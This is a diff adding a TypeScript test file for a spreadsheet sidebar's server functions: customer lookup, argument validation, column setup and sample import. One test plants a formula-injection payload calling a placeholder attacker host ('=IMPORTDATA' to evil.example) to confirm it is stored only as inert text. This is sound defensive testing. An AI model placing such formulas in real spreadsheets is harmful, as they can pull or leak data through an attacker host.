@@ -1,0 +1,160 @@
+// The sidebar's server functions through the fake: argument validation, plain-data answers.
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import * as main from '../../../src/gas/main';
+import { cellInput } from '../../../src/gas/write-block';
+import { type Installed, installFake, SAMPLE_UPLOAD } from './fixture';
+
+let env: Installed;
+afterEach(() => env?.uninstall());
+
+const plain = (value: unknown) => expect(JSON.parse(JSON.stringify(value))).toEqual(value);
+
+describe('with the sample workbook', () => {
+  beforeEach(() => {
+    env = installFake();
+    const result = main.insertSample(SAMPLE_UPLOAD);
+    expect(result).toEqual({ sheets: ['Customers', 'Purchases', 'Feedback'], asOf: '2026-06-30' });
+  });
+
+  it('getOverview answers plain data', () => {
+    const response = main.getOverview(null);
+    expect(response.ok).toBe(true);
+    if (!response.ok) return;
+    expect(response).toMatchObject({
+      language: 'en',
+      purchasesSheet: 'Purchases',
+      customerSheet: 'Customers',
+    });
+    expect(response.overview.asOf).toBe('2026-06-30');
+    expect(response.overview.customers).toBeGreaterThan(50);
+    plain(response);
+  });
+
+  it('getSelectedCustomer finds the customer of the selected row on any sheet with a customer column', () => {
+    const { fake } = env;
+    fake.setActiveRange('Customers', 'C6');
+    expect(main.getSelectedCustomer()).toEqual({
+      sheet: 'Customers',
+      row: 6,
+      key: 'ryan patel',
+      label: 'Ryan Patel',
+    });
+    fake.setActiveRange('Customers', 'A1');
+    expect(main.getSelectedCustomer()).toBeNull();
+    fake.setActiveRange('Feedback', 'E3');
+    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Feedback', key: 'ryan patel' });
+    main.analyzeCustomers();
+    fake.setActiveRange('Insights', 'D2');
+    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Insights', row: 2, key: '吴敏' });
+    fake.setActiveRange('Summary', 'A5');
+    expect(main.getSelectedCustomer()).toBeNull();
+    fake.spreadsheet.addSheet('Calls', [
+      ['When', 'Client', 'Notes'],
+      ['today', 'Lily Chen', 'called'],
+    ]);
+    fake.setActiveRange('Calls', 'C2');
+    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Calls', key: 'lily chen' });
+  });
+
+  it('getCustomerCard answers the card, complaints first', () => {
+    const { card, language } = main.getCustomerCard({ key: 'Ryan Patel' });
+    expect(language).toBe('en');
+    expect(card).toMatchObject({ label: 'Ryan Patel', nextStep: 'complaint', openComplaints: 1 });
+    expect(card!.profile!.email).toBe('ryan.patel@example.com');
+    expect(card!.history.length).toBeGreaterThan(3);
+    plain(card);
+    expect(main.getCustomerCard({ key: 'Nobody at all' }).card).toBeNull();
+  });
+
+  it('validates every argument with zod', () => {
+    expect(() => main.getCustomerCard({})).toThrow(/Invalid request — key/);
+    expect(() => main.getCustomerCard({ key: 'a', more: 1 })).toThrow(/Invalid request/);
+    expect(() => main.getCustomerCard('Ryan Patel')).toThrow(/Invalid request/);
+    expect(() => main.getCustomerCard({ key: 'x'.repeat(1001) })).toThrow(/Invalid request — key/);
+    expect(() => main.getOverview({ sneaky: true })).toThrow(/Invalid request/);
+    expect(() => main.getColumnSetup([1])).toThrow(/Invalid request/);
+    expect(() => main.insertSample({ ...SAMPLE_UPLOAD, sheets: [] })).toThrow(
+      /Invalid sample workbook — sheets/,
+    );
+  });
+
+  it('saves a valid column setup and refuses an invalid one without storing it', () => {
+    const view = main.getColumnSetup();
+    expect(view.source).toEqual({ purchases: 'detected', customers: 'detected', feedback: 'detected' });
+    expect(view.asOf).toBe('2026-06-30');
+    expect(view.sheets.map((s) => s.name)).toEqual(['Sheet1', 'Customers', 'Purchases', 'Feedback']);
+    expect(view.sheets[2]!.rows[0]).toEqual(['Customer', 'Date', 'Amount', 'Product']);
+    plain(view);
+    const setup = { purchases: view.purchases, customers: null, feedback: view.feedback, asOf: null };
+    const saved = main.saveColumnSetup(setup);
+    expect(saved.source).toEqual({ purchases: 'saved', customers: 'off', feedback: 'saved' });
+    expect(saved.asOf).toBeNull();
+    expect(() => main.saveColumnSetup({ ...setup, purchases: { ...view.purchases, sheet: 'Nope' } })).toThrow(
+      /no sheet "Nope"/,
+    );
+    const outside = { ...view.purchases!, columns: { ...view.purchases!.columns, amount: 40 } };
+    expect(() => main.saveColumnSetup({ ...setup, purchases: outside })).toThrow(/purchases.amount/);
+    expect(() => main.saveColumnSetup({ ...setup, asOf: 'tomorrow' })).toThrow(/asOf/);
+    expect(main.getColumnSetup().source.customers).toBe('off');
+    expect(main.resetColumnSetup().source).toEqual({
+      purchases: 'detected',
+      customers: 'detected',
+      feedback: 'detected',
+    });
+  });
+
+  it('analyzeFromSidebar writes the sheets and says what it wrote', () => {
+    const result = main.analyzeFromSidebar();
+    expect(result).toMatchObject({
+      ok: true,
+      asOf: '2026-06-30',
+      sheets: { insights: 'Insights', summary: 'Summary', dataIssues: 'Data issues' },
+    });
+    plain(result);
+  });
+});
+
+describe('insertSample', () => {
+  it('renames clashing sheets and their formula references, and writes only its own functions as formulas', () => {
+    env = installFake();
+    const { fake } = env;
+    fake.spreadsheet.addSheet('Purchases', [['mine']]);
+    const upload = structuredClone(SAMPLE_UPLOAD);
+    upload.sheets[0]!.rows[2]![5] = '=IMPORTDATA("https://evil.example")';
+    main.insertSample(upload);
+    expect(fake.values('Purchases')).toEqual([['mine']]);
+    const customers = fake.spreadsheet.sheet('Customers');
+    expect(customers.formulaCells().map((f) => f.formula)).toContain(
+      "=LIFECYCLE_STAGE(A2:A, 'Purchases (Regulars)'!A2:D, $M$2)",
+    );
+    expect(customers.formulaCells().every((f) => !f.formula.includes('IMPORTDATA'))).toBe(true);
+    expect(fake.values('Customers')[2]![5]).toBe('=IMPORTDATA("https://evil.example")');
+    const purchases = fake.values('Purchases (Regulars)');
+    expect(purchases.flat()).toContain('2025/6/24');
+    expect(purchases.flat()).toContain('¥436.00');
+    expect(fake.spreadsheet.sheet('Purchases (Regulars)').cell(2, 2).numberFormat).toBe('yyyy-mm-dd');
+    main.insertSample(upload);
+    expect(fake.spreadsheet.sheetNames()).toEqual([
+      'Sheet1',
+      'Purchases',
+      'Customers',
+      'Purchases (Regulars)',
+      'Feedback',
+    ]);
+  });
+});
+
+describe('cellInput', () => {
+  it('marks every non-empty string as text and leaves other values alone', () => {
+    expect(cellInput('=1+2')).toBe("'=1+2");
+    expect(cellInput("'x")).toBe("''x");
+    expect(cellInput('Ann')).toBe("'Ann");
+    expect(cellInput('')).toBe('');
+    expect(cellInput(null)).toBe('');
+    expect(cellInput(12)).toBe(12);
+    expect(cellInput(false)).toBe(false);
+    const date = new Date(0);
+    expect(cellInput(date)).toBe(date);
+    expect((cellInput('x'.repeat(60_000)) as string).length).toBe(50_001);
+  });
+});
